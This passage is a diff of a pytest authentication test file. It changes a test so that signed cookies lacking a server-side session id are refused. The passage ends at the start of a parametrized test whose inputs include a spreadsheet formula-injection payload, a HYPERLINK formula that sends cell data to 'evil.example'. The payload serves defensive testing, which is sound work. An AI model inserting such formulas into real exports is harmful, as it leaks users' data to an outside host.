@@ -631,16 +631,12 @@ def test_logout_ends_the_session_for_a_copy_of_its_cookie_too(app, client):
     assert elsewhere.get("/auth/whoami").json["user"] == "super1"
 
 
-def test_a_session_from_before_session_ids_is_kept_and_then_ends_at_logout(app, client):
-    token = login(client, "dealer1")
+def test_a_cookie_without_a_session_id_is_refused(app, client):
+    """Signed but with no server-side session: what anyone holding the key could make (QA51 M1)."""
+    login(client, "dealer1")
     with client.session_transaction() as cookie:
-        cookie.pop("sid")               # as a session made by the kiosk before the upgrade
-    assert client.get("/auth/whoami").json["user"] == "dealer1"
-    copied = client.get_cookie("niuniu_session").value
-    client.post("/auth/logout", data={"csrf_token": token})
-    copy = app.test_client()
-    copy.set_cookie("niuniu_session", copied)
-    assert copy.get("/auth/whoami").status_code == 401
+        cookie.pop("sid")               # as a session made by the kiosk before session ids
+    assert client.get("/auth/whoami").status_code == 401
 
 
 @pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"Click to verify")', "-2+3",
